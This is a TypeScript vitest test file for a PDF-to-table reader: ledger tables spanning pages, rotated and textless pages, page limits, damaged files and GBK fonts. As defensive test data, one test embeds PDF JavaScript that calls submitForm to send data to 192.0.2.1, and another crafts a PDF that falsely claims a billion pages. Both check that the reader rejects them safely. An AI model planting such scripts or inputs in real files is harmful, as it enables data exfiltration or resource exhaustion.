import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PDFDocument, type PDFPage, StandardFonts, degrees } from 'pdf-lib'
import { afterAll, expect, test } from 'vitest'
import { readWorkbook } from '../read-workbook.ts'

const folder = mkdtempSync(join(tmpdir(), 'bihuan-pdf-'))
afterAll(() => rmSync(folder, { recursive: true }))

async function readBytes(bytes: Uint8Array | string, name = 'ledger.pdf') {
  const path = join(folder, `${Math.random()}-${name}`)
  writeFileSync(path, bytes)
  return readWorkbook(path, name)
}
const texts = (read: Awaited<ReturnType<typeof readWorkbook>>) =>
  read.ok ? read.sheets.map(({ rows }) => rows.map(({ cells }) => cells.map((cell) => cell?.text ?? null))) : read.refusal

const XS = [50, 90, 290, 400]
/** A drawn table from the top of the page; rows 20 points high. */
async function ledger(pages: readonly (readonly (readonly string[])[])[], each: (page: PDFPage, n: number) => void = () => {}) {
  const file = await PDFDocument.create()
  const font = await file.embedFont(StandardFonts.Helvetica)
  pages.forEach((rows, n) => {
    const page = file.addPage([595, 842])
    rows.forEach((cells, r) => cells.forEach((text, c) => page.drawText(text, { x: (XS[c] ?? 0) + 4, y: 786 - r * 20, size: 10, font })))
    const bottom = 800 - rows.length * 20
    for (let y = 800; y >= bottom; y -= 20) page.drawLine({ start: { x: 50, y }, end: { x: 400, y } })
    for (const x of XS) page.drawLine({ start: { x, y: 800 }, end: { x, y: bottom } })
    page.drawText(String(n + 1), { x: 300, y: 30, size: 9, font })
    each(page, n)
  })
  return file
}
const HEAD = ['No', 'Problem', 'Unit']

test('两页的表读成一张，页码不算', async () => {
  const file = await ledger([
    [HEAD, ['1', 'Sewage in the river', 'Water']],
    [HEAD, ['2', 'Dust', 'Housing']],
  ])
  expect(texts(await readBytes(await file.save()))).toEqual([[HEAD, ['1', 'Sewage in the river', 'Water'], ['2', 'Dust', 'Housing']]])
})

test('旋转的页与脚本：读文字，什么也不执行', async () => {
  const file = await ledger([[HEAD, ['1', 'Sewage', 'Water']]], (page) => page.setRotation(degrees(90)))
  file.addJavaScript('main', 'app.alert("x"); this.submitForm("http://192.0.2.1/")')
  expect(texts(await readBytes(await file.save()))).toEqual([[HEAD, ['1', 'Sewage', 'Water']]])
})

test('没有文字的页：全部没有则拒绝并给出路，部分没有则说明是哪几页', async () => {
  const scan = await PDFDocument.create()
  scan.addPage()
  expect(await readBytes(await scan.save())).toMatchObject({ refusal: { kind: 'NO_TEXT', message: expect.stringContaining('WPS') } })
  const file = await ledger([[HEAD, ['1', 'Sewage', 'Water']]])
  file.addPage()
  const read = await readBytes(await file.save())
  expect(read.ok && read.notices).toMatchObject([{ kind: 'PAGES_WITHOUT_TEXT', message: expect.stringContaining('第 2 页') }])
})

test('页数超过上限，说出上限', async () => {
  const file = await PDFDocument.create()
  for (let i = 0; i < 301; i += 1) file.addPage()
  expect(await readBytes(await file.save())).toMatchObject({
    refusal: { kind: 'TOO_MANY_PAGES', message: expect.stringContaining('300 页') },
  })
})

test('截断、冒充、虚报大小', async () => {
  const whole = await (await ledger([[HEAD, ['1', 'Sewage', 'Water']]])).save()
  expect(await readBytes(whole.subarray(0, whole.length / 3))).toMatchObject({
    ok: false,
    refusal: { kind: expect.stringMatching(/PDF_DAMAGED|NO_TEXT/u) },
  })
  expect(await readBytes('序号,问题\n1,甲')).toMatchObject({ refusal: { kind: 'NOT_PDF' } })
  expect(await readBytes(whole, 'ledger.xlsx')).toMatchObject({ refusal: { kind: 'NOT_XLSX', message: expect.stringContaining('.pdf') } })
  const lying =
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1000000000/Kids[]>>endobj\ntrailer<</Root 1 0 R/Size 1000000000>>\n%%EOF'
  expect(await readBytes(lying)).toMatchObject({ ok: false })
})

const hex = (text: string) => ({ 序号: 'd0f2bac5', 问题: 'cecacce2', 养殖: 'd1f8d6b3', 尾水: 'ceb2cbae' })[text] ?? ''

const line = (x1: number, y1: number, x2: number, y2: number) => `${x1} ${y1} m ${x2} ${y2} l S\n`

const put = (x: number, y: number, text: string) => `BT /F1 10 Tf ${x} ${y} Td <${hex(text)}> Tj ET\n`

test('名称里的中文字体没有内嵌时按 GBK 对照读出', async () => {
  const grid = [700, 680, 660].map((y) => line(50, y, 250, y)).join('') + [50, 150, 250].map((x) => line(x, 700, x, 660)).join('')
  const content = put(54, 686, '序号') + put(154, 686, '问题') + put(54, 666, '养殖') + put(154, 666, '尾水') + grid
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
    `<</Length ${content.length}>>stream\n${content}endstream`,
    '<</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/GBK-EUC-H/DescendantFonts[6 0 R]>>',
    '<</Type/Font/Subtype/CIDFontType2/BaseFont/SimSun/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/DW 1000/FontDescriptor 7 0 R>>',
    '<</Type/FontDescriptor/FontName/SimSun/Flags 32/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 859/Descent -140/CapHeight 700/StemV 80>>',
  ]
  const body = objects.map((one, i) => `${i + 1} 0 obj${one}endobj\n`).join('')
  expect(texts(await readBytes(`%PDF-1.4\n${body}trailer<</Root 1 0 R/Size 8>>\n%%EOF`))).toEqual([
    [
      ['序号', '问题'],
      ['养殖', '尾水'],
    ],
  ])
})
